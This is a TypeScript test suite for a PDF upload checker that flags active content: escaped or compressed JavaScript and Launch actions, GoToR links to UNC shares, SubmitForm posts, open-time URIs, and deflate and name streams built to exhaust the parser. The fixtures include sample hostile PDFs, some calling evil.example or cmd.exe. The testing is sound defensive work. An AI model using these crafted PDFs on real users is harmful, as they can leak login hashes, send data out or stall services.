import fc from 'fast-check';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, it, vi } from 'vitest';
import { detectFileKind } from '../../../../shared/domain/uploads/file-type';
import {
  MAX_COMPRESSED_READS_PER_FILE_BYTE,
  MAX_PDF_INFLATED_BYTES,
  MAX_PDF_STREAMS,
  pdfActiveContent,
} from '../../../../shared/domain/uploads/pdf-active-content';
import { pdf } from '../../../support/files';

/** Bytes the check inflates (zlib counted, not timed). */
const zlib = vi.hoisted(() => ({ inflated: 0, consumed: 0 }));
/** Counts what zlib inflated and, when asked for its engine (`info`), the compressed bytes it consumed. */
function counted<T>(out: T): T {
  const result = out as unknown as Buffer | { buffer: Buffer; engine: { bytesWritten: number } };
  if (Buffer.isBuffer(result)) zlib.inflated += result.length;
  else {
    zlib.inflated += result.buffer.length;
    zlib.consumed += result.engine.bytesWritten;
  }
  return out;
}

vi.mock('node:zlib', async (original) => {
  const real = await original<typeof import('node:zlib')>();
  return {
    ...real,
    inflateSync: (...args: Parameters<typeof real.inflateSync>) => counted(real.inflateSync(...args)),
    inflateRawSync: (...args: Parameters<typeof real.inflateRawSync>) => counted(real.inflateRawSync(...args)),
  };
});

/** A PDF 1.5 whose object 3 sits compressed in object stream 4 (what qpdf --object-streams=generate writes). */
function withObjectStream(
  objects: string,
  options: { filter?: string; encrypt?: boolean; lead?: string; raw?: boolean } = {},
) {
  const plain = Buffer.from(`${options.lead ?? ''}3 0 ${objects}`, 'latin1');
  const data = options.raw ? deflateRawSync(plain) : deflateSync(plain);
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.5\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n` +
        `4 0 obj <</Type/ObjStm/N 1/First 4/Filter/${options.filter ?? 'FlateDecode'}/Length ${data.length}>> stream\n`,
      'latin1',
    ),
    data,
    Buffer.from(
      `\nendstream endobj\n5 0 obj <</Type/XRef/Size 6${options.encrypt ? '/Encrypt 6 0 R' : ''}/Root 1 0 R>> endobj\n%%EOF\n`,
      'latin1',
    ),
  ]);
}

/** Rows of `columns` bytes, each with a PNG filter (1 Sub, 2 Up, 4 Paeth) or TIFF 2 differences. */
function predicted(plain: Buffer, columns: number, filter: 1 | 2 | 4 | 'tiff'): Buffer {
  const rows: Buffer[] = [];
  let prior = Buffer.alloc(columns);
  for (let at = 0; at < plain.length; at += columns) {
    const row = Buffer.alloc(columns);
    plain.copy(row, 0, at, at + columns);
    const out = Buffer.alloc(columns);
    for (let i = 0; i < columns; i++) {
      const left = i > 0 ? (row[i - 1] as number) : 0;
      const up = prior[i] as number;
      const upLeft = i > 0 ? (prior[i - 1] as number) : 0;
      const p = left + up - upLeft;
      const [pa, pb, pc] = [Math.abs(p - left), Math.abs(p - up), Math.abs(p - upLeft)];
      const paeth = pa <= pb && pa <= pc ? left : pb <= pc ? up : upLeft;
      const base = filter === 2 ? up : filter === 4 ? paeth : left;
      out[i] = ((row[i] as number) - base + 256) & 0xff;
    }
    rows.push(filter === 'tiff' ? out : Buffer.concat([Buffer.from([filter]), out]));
    prior = row;
  }
  return Buffer.concat(rows);
}

/** An object stream written with a predictor; `parms` is its /DecodeParms value, `pad` text before `stream`. */
function withPredictedObjectStream(objects: string, filter: 1 | 2 | 4 | 'tiff', parms: string, pad = '') {
  const data = deflateSync(predicted(Buffer.from(`3 0 ${objects}`, 'latin1'), 8, filter));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.5\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n` +
        `4 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms ${parms}/Length ${data.length}${pad}>> stream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream endobj\n5 0 obj <</Type/XRef/Size 6/Root 1 0 R>> endobj\n%%EOF\n', 'latin1'),
  ]);
}

/** A Flate image: `darkTop` zero bytes, one light pixel, then `size` zero bytes. */
function flateImage(size: number, darkTop = 0) {
  const data = deflateSync(Buffer.concat([Buffer.alloc(darkTop), Buffer.from([0xff, 0x00]), Buffer.alloc(size)]));
  return Buffer.concat([
    Buffer.from(`6 0 obj <</Type/XObject/Subtype/Image/Filter/FlateDecode/Length ${data.length}>> stream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream endobj\n', 'latin1'),
  ]);
}

// A name is decoded (#xx) only when it can spell a name we look for: a longer one, a megabyte of
// "#41", cost a decoded copy of itself (0.2 s per MB, over a 25 MB form's files and 32 MB inflated).
describe('pdfActiveContent: a name is read however it is spelled, and a long one is not decoded', () => {
  const escaped = (name: string) => [...name].map((c) => `#${c.charCodeAt(0).toString(16).toUpperCase()}`).join('');
  it.each([
    ['every letter of /JavaScript escaped (30 bytes)', `/${escaped('JavaScript')}`, 'active_content'],
    ['every letter of /EmbeddedFile escaped (36 bytes)', `/${escaped('EmbeddedFile')}`, 'active_content'],
    ['a 46-byte name decoding to 16 letters', `/${escaped('JavaScriptJavaSc')}`, null],
    ['a megabyte of "#41"', `/${'#41'.repeat(350_000)}`, null],
    ['a long name, then /JavaScript', `/${'#41'.repeat(350_000)} /JavaScript`, 'active_content'],
  ] as const)('%s', (_name, body, verdict) => {
    expect(pdfActiveContent(pdf(`x\n3 0 obj <</S${body}>> endobj`))).toBe(verdict);
  });

  it('a name longer than any it looks for is never decoded (no copy of it is made)', () => {
    const replace = vi.spyOn(String.prototype, 'replace');
    try {
      expect(pdfActiveContent(pdf(`x\n3 0 obj <</S/${'#41'.repeat(350_000)}>> endobj`))).toBeNull();
      expect(replace.mock.contexts.filter((text) => String(text).length > 1_000)).toEqual([]);
    } finally {
      replace.mockRestore();
    }
  });

  it('decodes as a reader does, for any mix of letters and escapes (compared with a plain decoder)', () => {
    const decode = (raw: string) =>
      raw.replace(/#([0-9A-Fa-f]{2})/g, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16)));
    const ACTIVE = ['JavaScript', 'JS', 'Launch', 'EmbeddedFile', 'RichMedia'];
    const word = fc.oneof(
      fc.constantFrom(...ACTIVE),
      fc.string({ unit: fc.constantFrom(...'JavScriptLunch#4'), maxLength: 20 }),
    );
    const spelled = fc
      .tuple(word, fc.array(fc.boolean(), { minLength: 20, maxLength: 20 }))
      .map(([w, esc]) => [...w].map((c, i) => (esc[i] ? escaped(c) : c)).join(''));
    fc.assert(
      fc.property(spelled, (raw) => {
        const active = ACTIVE.includes(decode(raw));
        expect(pdfActiveContent(pdf(`x\n3 0 obj <</S/${raw}>> endobj`))).toBe(active ? 'active_content' : null);
      }),
      { numRuns: 500 },
    );
  });
});

describe('pdfActiveContent: names as the reader reads them', () => {
  // [case, the PDF, verdict]
  it.each([
    ['a plain invoice', pdf(), null],
    [
      'an invoice with compressed objects and no action',
      withObjectStream('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'),
      null,
    ],
    ['/JavaScript spelled out', pdf('x\n3 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj'), 'active_content'],
    ['/J#61vaScript (a #xx escape)', pdf('x\n3 0 obj <</S/J#61vaScript/J#53(app.alert(1))>> endobj'), 'active_content'],
    [
      '/#4C#61#75#6E#63#68 (every letter escaped)',
      pdf('x\n3 0 obj <</S/#4C#61#75#6E#63#68/F(calc.exe)>> endobj'),
      'active_content',
    ],
    ['/Embedded#46ile', pdf('x\n3 0 obj <</Type/Embedded#46ile>> endobj'), 'active_content'],
    ['JavaScript in a Flate object stream', withObjectStream("<</S/JavaScript/JS(app.alert('x'))>>"), 'active_content'],
    [
      'JavaScript in an object stream of raw deflate (no zlib header), which some readers inflate',
      withObjectStream("<</S/JavaScript/JS(app.alert('x'))>>", { raw: true }),
      'active_content',
    ],
    [
      'Launch in a raw deflate object stream',
      withObjectStream('<</S/Launch/F(cmd.exe)>>', { raw: true }),
      'active_content',
    ],
    [
      'an invoice whose raw deflate object stream has no action',
      withObjectStream('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>', { raw: true }),
      null,
    ],
    [
      'Launch in an object stream after a comment',
      withObjectStream('<</S/Launch/F(cmd.exe)>>', { lead: `%${'x'.repeat(2000)}\n` }),
      'active_content',
    ],
    [
      'JavaScript in an object stream after 200 KB of NULs (white space to a reader)',
      withObjectStream('<</S/JavaScript/JS(1)>>', { lead: '\0'.repeat(200_000) }),
      'active_content',
    ],
    [
      'an object stream read through another filter',
      withObjectStream('<</S/JavaScript>>', { filter: 'ASCIIHexDecode' }),
      'unverifiable',
    ],
    [
      'an object stream with an escaped filter name',
      withObjectStream('<</S/JavaScript>>', { filter: 'LZW#44ecode' }),
      'unverifiable',
    ],
    ['an encrypted PDF with compressed objects', withObjectStream('<</Type/Font>>', { encrypt: true }), 'unverifiable'],
    // Predictors (7.4.4.4): the inflated rows are differences, no name shows until they are undone.
    [
      'JavaScript in an object stream with the PNG Up predictor',
      withPredictedObjectStream("<</S/JavaScript/JS(app.alert('x'))>>", 2, '<</Predictor 12/Columns 8>>'),
      'active_content',
    ],
    [
      'Launch in an object stream with the PNG Sub predictor',
      withPredictedObjectStream('<</S/Launch/F(cmd.exe)>>', 1, '<</Predictor 11/Columns 8>>'),
      'active_content',
    ],
    [
      'JavaScript in an object stream with the PNG Paeth predictor, parameters in an array',
      withPredictedObjectStream(
        '<</S/JavaScript/JS(1)>>',
        4,
        '[<</Predictor 15/Columns 8/Colors 1/BitsPerComponent 8>>]',
      ),
      'active_content',
    ],
    [
      'JavaScript in an object stream with the TIFF predictor',
      withPredictedObjectStream('<</S/JavaScript/JS(1)>>', 'tiff', '<</Predictor 2/Columns 8>>'),
      'active_content',
    ],
    [
      'JavaScript behind escaped predictor names',
      withPredictedObjectStream('<</S/JavaScript/JS(1)>>', 2, '<</Pr#65dictor 12/C#6Flumns 8>>'),
      'active_content',
    ],
    [
      'JavaScript behind a predictor, with a string like an object end before the stream',
      withPredictedObjectStream(
        '<</S/JavaScript/JS(1)>>',
        2,
        '<</Predictor 12/Columns 8>>',
        `/Note(endobj 9 0 obj ${' '.repeat(5000)})`,
      ),
      'active_content',
    ],
    [
      'predictor parameters kept in another object',
      withPredictedObjectStream('<</S/JavaScript/JS(1)>>', 2, '7 0 R'),
      'unverifiable',
    ],
    [
      'an invoice whose object stream has a predictor and no action',
      withPredictedObjectStream('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>', 2, '<</Predictor 12/Columns 8>>'),
      null,
    ],
  ] as const)('%s → %s', (_, bytes, verdict) => {
    expect(pdfActiveContent(bytes)).toBe(verdict);
  });

  it('does not inflate images, however large, and refuses a file whose objects need more than the budget', () => {
    const big = Buffer.concat([withObjectStream('<</Type/Font>>'), flateImage(MAX_PDF_INFLATED_BYTES + 1024)]);
    expect(pdfActiveContent(big)).toBeNull();
    // A dark image (leading zeros are white space to a reader) is read only until its first pixel that is not.
    const dark = Buffer.concat([withObjectStream('<</Type/Font>>'), flateImage(MAX_PDF_INFLATED_BYTES, 1024 * 1024)]);
    expect(pdfActiveContent(dark)).toBeNull();
    const padded = withObjectStream('<</Type/Font>>', { lead: ' '.repeat(MAX_PDF_INFLATED_BYTES + 1024) });
    expect(pdfActiveContent(padded)).toBe('unverifiable');
  });

  it.each([
    ['blank (a dark image, white space to a reader)', Buffer.alloc(4 * 1024 * 1024)],
    ['object numbers, then white space', Buffer.concat([Buffer.from('1 0 '), Buffer.alloc(4 * 1024 * 1024, 0x20)])],
  ])('a file naming 64 predictors reads no more in all than the budget: a stream %s', (_, plain) => {
    // Every stream is read with every predictor the file names: the work is the inflated bytes
    // times the readings, and that product is what the budget bounds (a 32 KB file once took over a minute).
    const parms = Array.from({ length: 64 }, (_, i) => `<</Predictor 12/Columns ${i + 2}>>`).join('');
    const data = deflateSync(plain);
    const file = Buffer.concat([
      Buffer.from(`%PDF-1.5\n5 0 obj <</Type/XRef/DecodeParms [${parms}]>> endobj\n`, 'latin1'),
      Buffer.from(`4 0 obj <</Type/ObjStm/Filter/FlateDecode/Length ${data.length}>> stream\n`, 'latin1'),
      data,
      Buffer.from('\nendstream endobj\n%%EOF\n', 'latin1'),
    ]);
    const readings = 65;
    zlib.inflated = 0;
    expect(pdfActiveContent(file)).toBe('unverifiable');
    expect(zlib.inflated * readings).toBeLessThanOrEqual(MAX_PDF_INFLATED_BYTES);
  });

  /**
   * Deflate data that never ends: after every "stream" keyword, raw-deflate stored blocks (the next
   * unit's "%stream" comment, then empty blocks) that run to the end of the file and inflate to
   * comment lines only — no token ever shows, no inflated byte counts. Each stream's reading went to
   * the end of the file: a 9 MB file took 20 s, a mail with two timed the intake out.
   */
  function endlessStreams(totalBytes: number, unitBytes: number): Buffer {
    const head = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length 10 /Filter /FlateDecode >>\n');
    const content = Buffer.from('%stream\n');
    const stored = Buffer.from([0x00, content.length, 0x00, ~content.length & 0xff, 0xff]);
    const empty = Buffer.from([0x00, 0x00, 0x00, 0xff, 0xff]);
    const empties = Math.floor((unitBytes - stored.length - content.length) / empty.length);
    const unit = Buffer.concat([stored, content, ...Array<Buffer>(empties).fill(empty)]);
    return Buffer.concat([head, ...Array<Buffer>(Math.floor((totalBytes - head.length) / unit.length)).fill(unit)]);
  }

  it.each([
    ['1 MB of 10 KB units', 1_000_000, 10_000],
    ['4 MB of 10 KB units', 4_000_000, 10_000],
    ['9 MB of 6 KB units', 9_000_000, 6_000],
  ])(
    'deflate data that runs to the end of the file from every stream: unverifiable, reading a bounded multiple of the file — %s',
    (_, total, unit) => {
      const file = endlessStreams(total, unit);
      zlib.consumed = 0;
      expect(pdfActiveContent(file)).toBe('unverifiable');
      expect(zlib.consumed).toBeLessThanOrEqual(MAX_COMPRESSED_READS_PER_FILE_BYTE * file.length + 1024 * 1024);
    },
  );

  it('a real document of many object streams stays within the compressed budget', () => {
    // 400 object streams of 2 KB each, their deflate data ending where it should.
    const objects = Array.from({ length: 400 }, (_, i) =>
      withObjectStream(`<</Type/Font/Name/F${i}${' '.repeat(2000)}>>`),
    );
    const file = Buffer.concat(objects);
    zlib.consumed = 0;
    expect(pdfActiveContent(file)).toBeNull();
    expect(zlib.consumed).toBeLessThanOrEqual(3 * file.length);
    const active = Buffer.concat([...objects, withObjectStream('<</S/JavaScript/JS(app.alert(1))>>')]);
    expect(pdfActiveContent(active)).toBe('active_content');
  });

  it('reads a bounded number of /DecodeParms (each over up to 4 KB): no more than the streams it looks into', () => {
    const parms = (count: number) =>
      Buffer.concat([withObjectStream('<</Type/Font>>'), Buffer.from('/DecodeParms[] '.repeat(count), 'latin1')]);
    expect(pdfActiveContent(parms(10))).toBeNull();
    expect(pdfActiveContent(parms(MAX_PDF_STREAMS + 1))).toBe('unverifiable');
  });

  // Work is linear in the file (SPEC "Trust rules"): a merchant's 1 MB PDF of these shapes took 4–9 s
  // each (one `/DP[` of 4 KB of digits or of `<`, walked again from each character; values that
  // overlap, each read over its 4 KB), on the webform's submission and the scan result's function.
  const parmsFile = (unit: string, count: number) =>
    Buffer.concat([withObjectStream('<</Type/Font>>'), Buffer.from(unit.repeat(count), 'latin1')]);
  it.each([
    ['a 4 KB run of digits in each /DP array', parmsFile(`/DP[${'1'.repeat(4090)}]\n`, 250), null],
    ['a 4 KB run of “<” in each /DP array', parmsFile(`/DP[${'<'.repeat(4090)}]\n`, 250), null],
    ['arrays of empty dictionaries', parmsFile(`/DP[${'<<>>'.repeat(1020)}]\n`, 250), null],
    ['/DP values that overlap, 120 KB', parmsFile(`${'/DP[<<'.repeat(680)}]\n`, 30), 'unverifiable'],
    [
      'overlapping predictor dictionaries, 420 KB',
      parmsFile(`${'/DP[<</Predictor 12>>'.repeat(186)}]\n`, 108),
      'unverifiable',
    ],
    ['2,000 streams with ordinary /DecodeParms', parmsFile('/DecodeParms <</Predictor 12/Columns 5>> ', 2000), null],
  ])('reads /DecodeParms in linear time: %s', (_, file, verdict) => {
    const started = performance.now();
    expect(pdfActiveContent(file)).toBe(verdict);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('looks into a bounded number of streams', () => {
    const tiny = deflateSync(Buffer.from('1 0 (x)'));
    const many = Buffer.concat([
      withObjectStream('<</Type/Font>>'),
      ...Array.from({ length: MAX_PDF_STREAMS }, () => Buffer.concat([Buffer.from('stream\n'), tiny])),
    ]);
    expect(pdfActiveContent(many)).toBe('unverifiable');
  });

  it('the upload check refuses them with the reason shown to the person', () => {
    expect(detectFileKind(withObjectStream('<</S/JavaScript/JS(1)>>'), 'fatura.pdf')).toEqual({
      ok: false,
      reason: 'active_content',
    });
    expect(detectFileKind(withObjectStream('<</Type/Font>>', { encrypt: true }), 'fatura.pdf')).toEqual({
      ok: false,
      reason: 'unverifiable',
    });
  });
});

// Red-team probe F2: actions that reach outside the document passed the check (a /GoToR to a UNC
// share sends the Windows login hash when the reader follows it).
describe('pdfActiveContent: actions that leave the document, forms that send data, media that plays', () => {
  const linkTo = (action: string) =>
    pdf(`x\n3 0 obj <</Type/Annot/Subtype/Link/Rect[0 0 100 20]/A<<${action}>>>> endobj`);
  it.each([
    [
      '/OpenAction /GoToR to a UNC share',
      pdf('x\n1 0 obj <</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\s\\\\a.pdf)/D[0/Fit]>>>> endobj'),
    ],
    [
      '/AA on a page with /GoToR',
      pdf('x\n3 0 obj <</Type/Page/AA<</O<</S/GoToR/F(//evil/s/a.pdf)/D[0/Fit]>>>>>> endobj'),
    ],
    ['a link to another file (/GoToR), even clicked', linkTo('/S/GoToR/F(\\\\\\\\evil\\\\s\\\\x.pdf)/D[0/Fit]')],
    ['/GoToE (into an embedded file)', linkTo('/S/GoToE/T<</R/C/N(a.pdf)>>')],
    ['/SubmitForm (posts form data)', linkTo('/S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>')],
    ['/ImportData (fetches form data)', linkTo('/S/ImportData/F(dados.fdf)')],
    ['an XFA form', pdf('x\n1 0 obj <</Type/Catalog/AcroForm<</Fields[]/XFA 5 0 R>>>> endobj')],
    ['/Rendition (plays media)', linkTo('/S/Rendition/OP 0')],
    ['a /Sound annotation', pdf('x\n3 0 obj <</Type/Annot/Subtype/Sound/Sound 4 0 R>> endobj')],
    ['a /Movie annotation', pdf('x\n3 0 obj <</Type/Annot/Subtype/Movie/Movie<</F(a.mov)>>>> endobj')],
    ['/G#6FToR (escaped)', linkTo('/S/G#6FToR/F(\\\\\\\\evil\\\\s\\\\x.pdf)')],
    ['/SubmitForm in a compressed object stream', withObjectStream('<</S/SubmitForm/F<</F(https://evil/)>>>>')],
    ['/GoToR in a raw deflate object stream', withObjectStream('<</S/GoToR/F(//evil/s/a.pdf)>>', { raw: true })],
  ] as const)('refuses %s', (_, bytes) => {
    expect(pdfActiveContent(bytes)).toBe('active_content');
  });

  it.each([
    ['a statement with an ordinary link (/Link annotation, /URI)', linkTo('/S/URI/URI(https://www.banco.com.br/)')],
    [
      'a document that opens at its first page and has a link',
      pdf(
        'x\n1 0 obj <</Type/Catalog/OpenAction[3 0 R/Fit]>> endobj\n' +
          '4 0 obj <</Type/Annot/Subtype/Link/A<</S/URI/URI(https://loja.example/)>>>> endobj',
      ),
    ],
    ['a link inside the document (/GoTo)', linkTo('/S/GoTo/D[3 0 R/Fit]')],
    [
      'a link in a compressed object stream',
      withObjectStream('<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example/)>>>>'),
    ],
  ] as const)('accepts %s', (_, bytes) => {
    expect(pdfActiveContent(bytes)).toBeNull();
  });
});

// Red-team probe F2: a /URI fired on open (a tracker told the file was read) passed; a link's /URI,
// which waits for a click, stays accepted.
describe('pdfActiveContent: a /URI fired when the document opens', () => {
  const link = '9 0 obj <</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.banco.com.br/)>>>> endobj';
  it.each([
    [
      '/OpenAction with an inline /URI',
      pdf('x\n1 0 obj <</Type/Catalog/OpenAction<</S/URI/URI(https://r.example/a)>>>> endobj'),
    ],
    [
      '/OpenAction to an object that is a /URI action',
      pdf(
        'x\n1 0 obj <</Type/Catalog/OpenAction 5 0 R>> endobj\n5 0 obj\n<< /S /URI /URI (https://r.example/a) >>\nendobj',
      ),
    ],
    [
      '/Open#41ction (escaped), inline /U#52I',
      pdf('x\n1 0 obj <</Open#41ction<</S/U#52I/URI(https://r.example/)>>>> endobj'),
    ],
    ['a page /AA opening a /URI', pdf('x\n3 0 obj <</Type/Page/AA<</O<</S/URI/URI(https://r.example/p)>>>>>> endobj')],
    [
      'a /GoTo on open whose /Next is a /URI in another object',
      pdf(
        'x\n1 0 obj <</Type/Catalog/AA<</WC 6 0 R>>/OpenAction 5 0 R>> endobj\n' +
          '5 0 obj <</S/GoTo/D[3 0 R/Fit]/Next[7 0 R]>> endobj\n7 0 obj <</S/URI/URI(https://r.example/n)>> endobj',
      ),
    ],
    [
      'a string with ">>" before the action type',
      pdf('x\n1 0 obj <</OpenAction<</Note(a >> b) /S/URI/URI(https://r.example/)>>>> endobj'),
    ],
    ['/OpenAction to a /URI inside a compressed object stream', withObjectStream('<</S/URI/URI(https://r.example/)>>')],
    [
      '/OpenAction to an object not found, and a /URI in the file',
      pdf(`x\n1 0 obj <</OpenAction 8 0 R>> endobj\n${link}`),
    ],
  ] as const)('refuses %s', (_, bytes) => {
    expect(pdfActiveContent(bytes)).toBe('active_content');
  });

  it.each([
    [
      'a /GoTo action on open and a link',
      pdf(`x\n1 0 obj <</Type/Catalog/OpenAction 5 0 R>> endobj\n5 0 obj <</S/GoTo/D[3 0 R/Fit]>> endobj\n${link}`),
    ],
    [
      'an /OpenAction to a destination object and a link',
      pdf(`x\n1 0 obj <</Type/Catalog/OpenAction 5 0 R>> endobj\n5 0 obj [3 0 R /XYZ null null 0] endobj\n${link}`),
    ],
    [
      'a page /AA going to another page, and a link on it',
      pdf(`x\n3 0 obj <</Type/Page/AA<</O<</S/GoTo/D[4 0 R/Fit]>>>>/Annots[9 0 R]>> endobj\n${link}`),
    ],
    [
      'an /OpenAction to a link annotation in an object stream',
      withObjectStream('<</Subtype/Link/A<</S/URI/URI(https://a/)>>>>'),
    ],
  ] as const)('accepts %s', (_, bytes) => {
    expect(pdfActiveContent(bytes)).toBeNull();
  });

  it('follows what fires on open in linear time', () => {
    const many = pdf(`${'/AA<</O<</S/GoTo/D[0 /Fit]>>>> '.repeat(30_000)}\n${link}`);
    const deep = pdf(`/OpenAction ${'['.repeat(200_000)}\n${link}`);
    const started = performance.now();
    expect(pdfActiveContent(many)).toBeNull();
    expect(pdfActiveContent(deep)).toBe('active_content');
    expect(performance.now() - started).toBeLessThan(1000);
  });
});

// Red team round 46: a 30 KB PDF whose object stream inflates to 30 MB of one-letter names ("/a/a/a…",
// 15 million of them) took 3–6 s to read, a match object per name (an object stream of as many bytes
// without names, 0.5 s); ten in a 412 KB mail, 37 s (the intake has 60). Timed against a stream as long
// that is one name, read in the same test: the reader walks every byte of either (a stream with no "/"
// it skips whole, which made it no measure of the bytes), and the names may cost little more than them.
describe('pdfActiveContent: an object stream of millions of names', () => {
  const namesFile = (names: string) =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n/URI (x) 5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'),
      deflateSync(Buffer.from(`1 0 ${names}`, 'latin1'), { level: 9 }),
      Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
    ]);
  // 30 MB inflated: within MAX_PDF_INFLATED_BYTES with the peek's first reading.
  const chars = MAX_PDF_INFLATED_BYTES - 2 * 1024 * 1024;
  const timed = (file: Buffer) => {
    const started = performance.now();
    const verdict = pdfActiveContent(file);
    return { verdict, ms: performance.now() - started };
  };
  it.each([
    ['one-letter names', '/a'.repeat(chars / 2), null],
    ['empty names', '/'.repeat(chars), null],
    ['one-letter names, then an escaped script', `${'/a'.repeat(chars / 2 - 16)}/J#61vaScript`, 'active_content'],
  ])('%s: read in about the time of its bytes', (_, names, verdict) => {
    const bytes = timed(namesFile(`/${'a'.repeat(chars - 1)}`));
    expect(bytes.verdict).toBeNull();
    const read = timed(namesFile(names));
    expect(read.verdict).toBe(verdict);
    expect(read.ms).toBeLessThan(4 * bytes.ms + 250);
  });
});

// Issue 16: outside a name the reader jumps from "/" to "/" (most of a PDF is stream bytes): a name
// is still read wherever it starts and however it ends — the file's end, a delimiter, another "/".
describe('pdfActiveContent: a name is read wherever it sits among other bytes', () => {
  const file = (rest: string) => Buffer.from(`%PDF-1.4\n${rest}`, 'latin1');
  const binary = '\x80\xff\x00\x9c'.repeat(2048);
  it.each([
    ['the last bytes of the file, nothing after', '1 0 obj <</S/JavaScript', 'active_content'],
    ['after binary stream bytes with no "/"', `stream\n${binary}/JS`, 'active_content'],
    ['glued to the word before it', 'fatura/Launch>>', 'active_content'],
    ['after an empty name', '//EmbeddedFile', 'active_content'],
    ['escaped, at the end', `${binary}/J#61vaScript`, 'active_content'],
    ['ended by white space inside binary bytes', `${binary}/RichMedia\n${binary}`, 'active_content'],
    ['longer than the name looked for', '/JavaScriptX /Launcher', null],
    ['cut by white space', '/Java Script', null],
    ['a lone "/" at the end', `${binary}/`, null],
    ['no "/" at all', `Fatura 123: cobrança em dobro ${binary}`, null],
  ])('%s', (_, rest, verdict) => {
    expect(pdfActiveContent(file(rest))).toBe(verdict);
  });
});
